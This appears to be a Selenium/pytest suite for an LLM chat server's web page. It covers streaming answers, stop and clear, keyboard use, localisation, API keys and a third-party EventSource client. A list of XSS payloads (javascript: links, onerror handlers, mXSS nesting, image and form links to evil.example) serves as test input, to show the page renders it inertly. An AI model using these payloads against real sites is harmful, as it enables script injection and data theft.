"""The server as a real browser meets it: its own page, a bare EventSource, and the package
@microsoft/fetch-event-source on a page from elsewhere.

    pytest tests/test_browser.py

Debian: apt-get install chromium chromium-driver. Without them the tests skip, but not where CI is
set. What the model never says (HTML, half an answer), a peer with the same page says instead.
"""

import json
import mimetypes
import os
import re
import shutil
import subprocess
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest

from test_api import COUNT, ask
from tests.servers import API, LIMIT, busy, started, until

CHROMIUM, DRIVER = (
    next(filter(None, map(shutil.which, names)), None)
    for names in [
        ("chromium", "chromium-browser", "google-chrome"),
        ("chromedriver", "chromium.chromedriver"),
    ]
)
CI = "CI" in os.environ  # there, nothing may be missing unnoticed
if not CI:
    pytest.importorskip("selenium")
    if not (CHROMIUM and DRIVER):
        pytest.skip("there is no chromium with its driver here", allow_module_level=True)

from selenium import webdriver  # noqa: E402
from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support.expected_conditions import alert_is_present  # noqa: E402

WEB = Path(__file__).parent.parent / "web"
FLAGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
EXAMPLE, KEY = "Give me an example", "open-sesame"
HTML = "<img src=x onerror='window.hacked = true'><script>window.hacked = true</script>"
PACKAGE = "@microsoft/fetch-event-source@2.0.1"
# Its modules import "./fetch" where a server has fetch.js: what a bundler would mend.
FOREIGN = b"""<!doctype html><link rel="icon" href="data:,"><script type="importmap">
{"imports": {"/fetch": "/fetch.js", "/parse": "/parse.js"}}</script>
<script type="module">import * as module from "/index.js"; window.source = module</script>"""


@contextmanager
def chromium(folder, language):
    assert CHROMIUM and DRIVER, "there is no chromium with its driver here"
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in [*FLAGS, f"--user-data-dir={folder}", f"--accept-lang={language}"]:
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"performance": "ALL"})
    driver = webdriver.Chrome(options, webdriver.ChromeService(DRIVER))
    try:
        yield driver
    finally:
        driver.quit()


@pytest.fixture(scope="module")
def driver(tmp_path_factory):
    with chromium(tmp_path_factory.mktemp("profile"), "en-US") as driver:
        yield driver


@pytest.fixture
def page(driver, url):
    """The server's page, just opened, in a browser as it is when nothing is emulated."""
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {})
    driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    driver.get(url)
    posted(driver)  # what was before is forgotten
    yield driver
    driver.get("about:blank")


@pytest.fixture
def locked(driver):
    with started(*API, "--api-key", KEY) as server:
        driver.get(server.url)
        yield driver


@pytest.fixture
def steps(server):
    """The model makes only the steps that the test lets through: `steps(10)`."""
    with server.held():
        yield server.let


@contextmanager
def serving(handler):
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as site:
        Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}"
        site.shutdown()


def peer(*events):
    """The page, from a server whose every answer is these events, byte by byte."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            file = WEB / (self.path.lstrip("/") or "page.html")
            kind = mimetypes.guess_type(file)[0] if file.is_file() else "text/plain"
            self.reply(kind, [file.read_bytes() if file.is_file() else b""])

        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            stream = "".join(event + "\n\n" for event in events).encode()
            self.reply("text/event-stream", [bytes([byte]) for byte in stream])

        def reply(self, kind, pieces):
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.end_headers()
            for piece in pieces:
                self.wfile.write(piece)

    return serving(Handler)


def event(text):
    return "id: 7\ndata: " + json.dumps({"text": text, "message_id": "7"}, ensure_ascii=False)


def posted(page):
    """The bodies the page has posted since this was last asked, as they left the browser."""
    log = [json.loads(entry["message"])["message"] for entry in page.get_log("performance")]
    requests = [
        one["params"]["request"] for one in log if one["method"] == "Network.requestWillBeSent"
    ]
    return [json.loads(one["postData"]) for one in requests if one["method"] == "POST"]


def element(page, name):
    return page.find_element("id", name)


def say(page, text, *then):
    element(page, "prompt").send_keys(text, *then or [Keys.ENTER])


def said(page, kind="assistant"):
    return page.execute_script(
        "return [...document.querySelectorAll('#talk .' + arguments[0])].map(p => p.textContent)",
        kind,
    )


def answering(page):
    return element(page, "stop").is_displayed()


def answer(page, question):
    say(page, question)
    until(lambda: not answering(page))
    return said(page)[-1]


def words(page):
    """What there is of the answer, as soon as there is something."""
    return until(lambda: said(page)[-1])


def press(page, *keys):
    ActionChains(page).send_keys(*keys).perform()


def focused(page):
    return page.switch_to.active_element.get_attribute("id")


def key_typed(page, key):
    dialog = until(lambda: alert_is_present()(page))
    dialog.send_keys(key)
    dialog.accept()


def listened(page, server, ended):
    """All that came until the end. It must come while the answer is made, not with its end."""
    with server.held():
        until(lambda: busy(server.url) == 1)
        for few in 0, 3:
            server.let(20)
            until(lambda: page.execute_script("return heard.length") > few)
        assert not page.execute_script("return " + ended)
    until(lambda: page.execute_script("return " + ended))
    return page.execute_script("return heard")


# --- The page ----------------------------------------------------------------------------------


def test_an_answer_is_seen_to_grow_until_it_is_whole(page, server):
    with server.held():
        say(page, COUNT)
        server.let(10)
        start = words(page)
        server.let(30)
        more = until(lambda: len(said(page)[-1]) > len(start) + 20 and said(page)[-1])
        assert answering(page)
    until(lambda: not answering(page))
    whole = said(page)[-1]
    assert more.startswith(start) and whole.startswith(more) and whole != more
    assert said(page, "user") == [COUNT] and not said(page, "note")


@pytest.mark.parametrize(
    "stop",
    [lambda page: element(page, "stop").click(), lambda page: press(page, Keys.ESCAPE)],
    ids=["button", "escape"],
)
def test_a_stop_ends_the_answer_here_and_there_and_keeps_its_words(page, server, stop):
    with server.held():
        say(page, COUNT)
        server.let(10)
        start = words(page)
        stop(page)
        until(lambda: not answering(page) and busy(server.url) == 0)
    assert said(page)[-1].startswith(start) and said(page, "note") == ["(stopped)"]
    kept = said(page)[-1]
    answer(page, "Hello")
    assert posted(page)[-1]["history"] == [[COUNT, kept]] and said(page)[0] == kept


def test_a_second_question_goes_with_the_first_turn(page, server):
    first = answer(page, "What is JSON?")
    second = answer(page, EXAMPLE)
    assert [body["history"] for body in posted(page)] == [[], [["What is JSON?", first]]]
    assert "{" in second and "{" not in ask(server.url, EXAMPLE, temperature=0)
    assert said(page) == [first, second]


def test_clear_empties_the_talk_and_what_is_remembered(page):
    answer(page, "What is JSON?")
    element(page, "clear").click()
    assert element(page, "talk").text == "" and focused(page) == "prompt"
    answer(page, "Hello")
    assert posted(page)[-1]["history"] == [] and len(said(page)) == 1


def test_clear_ends_an_answer_under_way_for_good(page, server):
    with server.held():
        say(page, COUNT)
        server.let(10)
        words(page)
        element(page, "clear").click()
        assert not answering(page)
        until(lambda: busy(server.url) == 0)
    assert page.execute_script("return talk.childNodes.length") == 0
    answer(page, "Hello")
    assert posted(page)[-1]["history"] == [] and said(page, "user") == ["Hello"]


def test_a_question_asked_right_after_clear_has_the_page_for_itself(page, server):
    with server.held():
        say(page, COUNT)
        server.let(10)
        words(page)
        element(page, "clear").click()
        say(page, "Hello")
        assert answering(page)
    until(lambda: not answering(page))
    assert said(page, "user") == ["Hello"] and len(said(page)) == 1 and not said(page, "note")


def test_a_reload_starts_anew(page):
    answer(page, "What is JSON?")
    page.refresh()
    assert element(page, "talk").text == ""
    answer(page, EXAMPLE)
    assert posted(page)[-1]["history"] == []


def test_what_one_types_while_an_answer_comes_waits_its_turn(page, steps):
    say(page, COUNT)
    steps(10)
    words(page)
    say(page, "Hello")
    assert element(page, "prompt").get_attribute("value") == "Hello"
    assert said(page, "user") == [COUNT] and len(posted(page)) == 1


def test_a_refused_question_gets_the_servers_reason(page):
    page.execute_script("prompt.value = 'word '.repeat(20000); form.requestSubmit()")
    until(lambda: not answering(page))
    assert re.search(r"prompt.*\d", said(page, "note")[0]) and not said(page)
    assert answer(page, "Hello") and posted(page)[-1]["history"] == []


def test_shift_and_enter_break_the_line(page):
    say(page, "a", Keys.SHIFT, Keys.ENTER, Keys.NULL, "b")
    assert element(page, "prompt").get_attribute("value") == "a\nb" and not said(page, "user")


def test_the_enter_that_ends_an_input_methods_choice_sends_nothing(page):
    page.execute_cdp_cmd(
        "Input.imeSetComposition", {"text": "ni hao", "selectionStart": 6, "selectionEnd": 6}
    )
    press(page, Keys.ENTER)
    page.execute_cdp_cmd("Input.insertText", {"text": "你好"})
    # A real input method keeps its Enter; this one also breaks the line.
    assert element(page, "prompt").get_attribute("value").strip() == "你好"
    assert not said(page, "user") and not posted(page)


def test_html_that_one_types_is_shown_as_text_and_runs_nothing(page):
    answer(page, HTML)
    assert said(page, "user") == [HTML]
    assert not page.find_elements("css selector", ".user *")
    assert page.execute_script("return window.hacked") is None


@contextmanager
def answered(driver, text):
    """The page after an answer that came a few characters at a time."""
    pieces = [event(text[i : i + 3]) for i in range(0, len(text), 3)]
    with peer(": ping", *pieces, "data: [DONE]") as url:
        driver.get(url)
        answer(driver, "Hello")
        yield


def parts(driver, selector, name="textContent"):
    """Of the answer: that property of each element that the selector names."""
    return driver.execute_script(
        "return [...document.querySelectorAll(arguments[0])].map(one => one[arguments[1]])",
        f"#talk .assistant {selector}",
        name,
    )


def test_html_that_a_model_writes_is_shown_as_text_and_runs_nothing(driver):
    with answered(driver, HTML + "好👩‍🚀"):
        assert said(driver) == [HTML + "好👩‍🚀"] and not said(driver, "note")
        assert set(parts(driver, "*", "tagName")) == {"DIV", "P"}
        assert driver.execute_script("return window.hacked") is None


ATTACKS = [
    HTML,
    "<svg onload=hack()>\n\n<iframe src=javascript:hack()></iframe>",
    "[a](javascript:hack())\n[b](data:text/html,<script>hack()</script>)\n[c](JaVaScRiPt&#58;hack())",
    "<javascript:hack()>\n\n[d]\n\n[d]: javascript:hack() 'title'",
    '![x](https://evil.example/?secret)\n\n![x](x"onerror="hack())',
    '[e](https://a.example/"onmouseover="hack())\n\n```x" onclick="hack()\ncode\n```',
    "| <img src=x onerror=hack()> |\n|---|\n| <b onclick=hack()>b</b> |",
    "$<img src=x onerror=hack()>$\n\n$$\n<script>hack()</script>\n$$",
    "<style>* { display: none }</style>\n\n<form action=https://evil.example><input name=a>",
    "- [x] <details ontoggle=hack() open>\n\n&lt;script&gt;hack()&lt;/script&gt;",
    "\\<img src=x onerror=hack()>\n\n`<script>hack()</script>`",
    "<math><mtext><table><mglyph><style><img src=x onerror=hack()>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_hostile_answer_runs_and_loads_nothing(driver, text):
    with answered(driver, text):
        driver.execute_script("window.hack = () => window.hacked = true")
        driver.execute_script("""for (const one of document.querySelectorAll(".assistant *"))
            for (const kind of ["click", "mouseover", "load", "error", "toggle"])
                one.dispatchEvent(new Event(kind, { bubbles: true, cancelable: true }));""")
        assert driver.execute_script("return window.hacked") is None
        names = {name.lower() for name in parts(driver, "*", "tagName")}
        assert names <= {"div", "p", "a", "br", "code", "pre", "button", "ul", "li", "span"} | {
            *("table", "thead", "tbody", "tr", "th", "td")
        }
        assert all(link.startswith("https://") for link in parts(driver, "a", "href") if link)
        loaded = driver.execute_script(
            "return performance.getEntriesByType('resource').map(one => one.name)"
        )
        here = driver.execute_script("return location.origin")
        assert all(name.startswith(here) for name in loaded)


def test_without_the_cleaning_the_browser_itself_runs_nothing_of_an_answer(driver):
    """The page's own policy forbids it."""
    with answered(driver, "hi"):
        driver.execute_script("document.querySelector('.assistant').innerHTML = arguments[0]", HTML)
        driver.execute_async_script("setTimeout(arguments[0], 300)")
        assert driver.execute_script("return window.hacked") is None


MARKDOWN = """# Title

Some **bold** words, `code`,
a [link](https://example.com/a?b=1&c=2) and https://example.org/?x=1&y=2

1. one
2. two
   - [x] three

```python
if a < b:
    print("<^>")
```

| name | value |
|:-----|------:|
| top_p | 0.7 |

Math: $a_1 * b_2 * c_3$, \\(x_i\\), for $5 and $6.

$$
E = mc^2 \\\\
- 1
$$
"""


def test_markdown_is_drawn(driver):
    with answered(driver, MARKDOWN):
        assert parts(driver, "h1") == ["Title"]
        assert parts(driver, "strong") == ["bold"]
        assert parts(driver, "p code") == ["code"]
        assert parts(driver, "p br") == [""]  # a line end stays one
        assert parts(driver, "a") == ["link", "https://example.org/?x=1&y=2"]
        assert parts(driver, "a", "href")[0] == "https://example.com/a?b=1&c=2"
        shown = said(driver)[-1]
        assert "link (https://example.com/a?b=1&c=2)" in shown  # where it leads
        assert shown.count("https://example.org") == 1
        assert parts(driver, "ol > li") == ["one", "two\n☑ three\n\n"]
        assert parts(driver, "pre code") == ['if a < b:\n    print("<^>")\n']
        assert parts(driver, "td", "align") == ["left", "right"]
        assert parts(driver, ".verbatim") == [
            "$a_1 * b_2 * c_3$",
            "\\(x_i\\)",
            "$$\nE = mc^2 \\\\\n- 1\n$$",
        ]
        assert "for $5 and $6." in shown


def test_the_copy_button_copies_the_code_and_the_model_gets_its_own_words_back(driver):
    with answered(driver, MARKDOWN):
        posted(driver)
        origin = driver.execute_script("return location.origin")
        driver.execute_cdp_cmd(
            "Browser.grantPermissions",
            {"origin": origin, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]},
        )
        driver.find_element("css selector", ".copy").click()
        copied = "navigator.clipboard.readText().then(arguments[0])"
        wanted = 'if a < b:\n    print("<^>")\n'
        until(lambda: driver.execute_async_script(copied) == wanted)
        answer(driver, "And?")
        assert posted(driver)[-1]["history"] == [["Hello", MARKDOWN]]


def test_the_copy_button_works_without_the_browsers_clipboard_too(driver):
    """As on a machine that is reached over plain HTTP."""
    with answered(driver, MARKDOWN):
        driver.execute_script(
            "Object.defineProperty(navigator, 'clipboard', { value: undefined });"
            "document.addEventListener('copy', () => window.copied = String(getSelection()))"
        )
        driver.find_element("css selector", ".copy").click()
        copied = until(lambda: driver.execute_script("return window.copied"))
        assert copied.strip() == 'if a < b:\n    print("<^>")'


def test_what_is_selected_in_a_finished_block_stays_selected(driver):
    steady, more = ["first block\n\n"], ["more "] * 300
    with peer(*map(event, steady + more), "data: [DONE]") as url:
        driver.get(url)
        say(driver, "Hello")
        until(lambda: len(parts(driver, "> div")) == 2)
        select = "getSelection().selectAllChildren(document.querySelector('.assistant p'))"
        driver.execute_script(select)
        until(lambda: not answering(driver))
        assert driver.execute_script("return String(getSelection())") == "first block"


@pytest.mark.parametrize("text", ["> " * 6000, "_a" * 4000])
def test_a_text_that_is_hard_to_draw_does_not_stop_the_page(driver, text):
    events = [event(text[i : i + 8]) for i in range(0, len(text), 8)]
    with peer(*events, event("the end"), "data: [DONE]") as url:
        driver.get(url)
        assert answer(driver, "Hello").rstrip().endswith("the end")
        assert not said(driver, "note")


@pytest.mark.parametrize(
    "end, told",
    [
        ([], "connection broke off"),
        (['event: error\ndata: {"detail": "memory is full"}'], "memory is full"),
    ],
)
def test_half_an_answer_does_not_look_whole(driver, end, told):
    with peer(event("half"), *end) as url:
        driver.get(url)
        assert answer(driver, "Hello") == "half"
        assert told in said(driver, "note")[0]


def test_the_models_marker_is_shown_as_the_model_wrote_it(page):
    assert "<^>" in answer(page, "Show me a frame of the stream with its marker")


def test_the_keyboard_alone_is_enough(page, steps):
    assert focused(page) == "prompt"
    press(page, COUNT, Keys.TAB)
    assert focused(page) == "send"
    press(page, Keys.ENTER)
    steps(10)
    words(page)
    press(page, Keys.TAB)
    assert focused(page) == "stop"
    press(page, Keys.SPACE)
    until(lambda: said(page, "note"))
    assert focused(page) == "prompt"
    ActionChains(page).key_down(Keys.SHIFT).send_keys(Keys.TAB * 2).key_up(Keys.SHIFT).perform()
    assert focused(page) == "clear"


def test_nothing_overflows_a_narrow_screen(page):
    page.execute_cdp_cmd(
        "Emulation.setDeviceMetricsOverride",
        {"width": 360, "height": 740, "deviceScaleFactor": 1, "mobile": False},
    )
    answer(page, "https://example.com/" + "long" * 30)
    assert page.execute_script("return innerWidth") == 360
    page.execute_script(
        "drawMarkdown(document.querySelector('.assistant'), arguments[0], 'Copy', true)",
        MARKDOWN + "\n| " + "long | " * 40 + "\n|" + "-|" * 40 + "\n\n```\n" + "long " * 90,
    )
    assert (
        page.execute_script("""return [...document.querySelectorAll("*")].filter(one =>
        one.getBoundingClientRect().right > 360 || one.getBoundingClientRect().left < 0
        || one.scrollWidth > one.offsetWidth).filter(one => !one.closest("pre, table"))
        .map(one => one.outerHTML)""")
        == []
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_either_scheme_has_its_background_and_legible_text(page, steps, scheme):
    page.execute_cdp_cmd(
        "Emulation.setEmulatedMedia",
        {"features": [{"name": "prefers-color-scheme", "value": scheme}]},
    )
    say(page, COUNT)
    steps(10)
    words(page)
    press(page, Keys.ESCAPE)
    until(lambda: said(page, "note"))
    page_colour = colour(page, "body", "background-color")
    assert light(page_colour) < 0.05 if scheme == "dark" else light(page_colour) > 0.8
    for kind in "user", "assistant", "note":
        behind = colour(page, f"#talk .{kind}", "background-color") or page_colour
        assert contrast(colour(page, f"#talk .{kind}", "color"), behind) >= 4.5  # WCAG's AA


def colour(page, selector, name):
    """Red, green and blue, from 0 to 1; None where nothing is painted."""
    value = page.find_element("css selector", selector).value_of_css_property(name)
    *rgb, alpha = [float(number) for number in re.findall(r"[\d.]+", value)][:4]
    assert value.startswith("rgba(") and alpha in (0, 1), value
    return [part / 255 for part in rgb] if alpha else None


def light(rgb):
    linear = [one / 12.92 if one <= 0.04045 else ((one + 0.055) / 1.055) ** 2.4 for one in rgb]
    return sum(part * weight for part, weight in zip(linear, [0.2126, 0.7152, 0.0722]))


def contrast(one, other):
    dark, bright = sorted([light(one), light(other)])
    return (bright + 0.05) / (dark + 0.05)


def test_a_chinese_browser_sees_a_chinese_page(server, steps, tmp_path):
    with chromium(tmp_path, "zh-CN") as page:
        page.get(server.url)
        assert element(page, "prompt").get_attribute("placeholder").startswith("输入问题")
        assert page.execute_script("return document.documentElement.lang").startswith("zh")
        assert [element(page, name).text for name in ("clear", "send")] == ["清空", "发送"]
        say(page, COUNT)
        assert element(page, "stop").text == "停止"
        press(page, Keys.ESCAPE)
        assert until(lambda: said(page, "note")) == ["（已停止）"]


def test_a_server_with_a_key_asks_for_it_until_it_is_right_and_once(locked):
    say(locked, "Hello")
    until(lambda: alert_is_present()(locked)).dismiss()
    assert "key" in until(lambda: said(locked, "note"))[0]
    say(locked, "Hello")
    key_typed(locked, "wrong")
    key_typed(locked, KEY)
    until(lambda: not answering(locked))
    assert len(said(locked)) == 1 and answer(locked, "Hello") and len(said(locked)) == 2


def test_a_key_that_no_header_can_carry_is_asked_for_again(locked):
    say(locked, "Hello")
    key_typed(locked, "芝麻开门")
    key_typed(locked, KEY)
    until(lambda: not answering(locked))
    assert said(locked)


def test_the_page_asks_nobody_but_its_own_server(page, server):
    answer(page, "Hello")
    asked = page.execute_script(
        "return performance.getEntries().filter(one => one.initiatorType).map(one => one.name)"
    )
    assert server.url + "/stream" in asked
    assert all(name.startswith((server.url + "/", "data:")) for name in asked)


def test_a_server_that_is_gone_is_told(driver):
    with started(*API) as server:
        driver.get(server.url)
        with server.held():
            say(driver, COUNT)
            server.let(10)
            start = words(driver)
            server.kill()
        until(lambda: not answering(driver))
        assert said(driver)[-1].startswith(start) and "incomplete" in said(driver, "note")[-1]
        say(driver, "Hello")
        until(lambda: not answering(driver))
        assert said(driver, "note")[-1] == "The server cannot be reached."
        assert len(said(driver)) == 1


# --- Other people's pages ----------------------------------------------------------------------


def test_a_bare_eventsource_hears_the_answer_grow_and_asks_no_more_after_its_end(page, server):
    page.execute_script(
        """window.heard = [];
        window.source = new EventSource("stream?" + new URLSearchParams({prompt: arguments[0]}));
        source.onmessage = event => heard.push(event.data);""",
        COUNT,
    )
    heard = listened(page, server, "source.readyState === EventSource.CLOSED")
    assert heard.index("[DONE]") == len(heard) - 1
    texts = [json.loads(data) for data in heard[:-1]]
    assert all(one["text"] for one in texts[:-1]) and texts[-1]["finish_reason"]
    assert len({one["message_id"] for one in texts}) == 1
    assert page.execute_script(
        "return performance.getEntriesByType('resource').filter(one =>"
        " one.name.includes('/stream?')).map(one => one.responseStatus)"
    ) == [200, 0]  # so it shows the 204, after which there is no third


@pytest.fixture(scope="module")
def package(tmp_path_factory):
    """A folder with a page that has the package's modules, as npm gives them out."""
    folder, npm = tmp_path_factory.mktemp("package"), shutil.which("npm")
    if not npm and not CI:
        pytest.skip("there is no npm here")
    packed = subprocess.run(
        [npm, "pack", "--silent", PACKAGE],
        cwd=folder,
        text=True,
        stdout=subprocess.PIPE,
        check=True,
        timeout=LIMIT,
    ).stdout
    shutil.unpack_archive(folder / packed.strip(), folder)
    modules = folder / "package" / "lib" / "esm"
    (modules / "index.html").write_bytes(FOREIGN)
    return modules


def test_fetch_event_source_on_a_foreign_page_shows_the_answer_grow_to_its_end(driver, package):
    with (
        serving(partial(SimpleHTTPRequestHandler, directory=package)) as site,
        started(*API, "--cors-origin", site) as server,
    ):
        driver.get(site)
        until(lambda: driver.execute_script("return 'source' in window"))
        driver.execute_script(
            """window.heard = [];
            source.fetchEventSource(arguments[0] + "/stream", {
                method: "POST", headers: {"Content-Type": "application/json"},
                body: JSON.stringify({prompt: arguments[1]}), openWhenHidden: true,
                onmessage: event => heard.push(event.data), onclose: () => heard.push("closed"),
                onerror: error => { heard.push("" + error, "closed"); throw error; }})""",
            server.url,
            COUNT,
        )
        heard = listened(driver, server, "heard.at(-1) === 'closed'")
    assert heard[-2:] == ["[DONE]", "closed"] and "".join(heard).count("[DONE]") == 1
    *events, last = map(json.loads, heard[:-2])
    assert events and all(event["text"] for event in events) and last["finish_reason"]
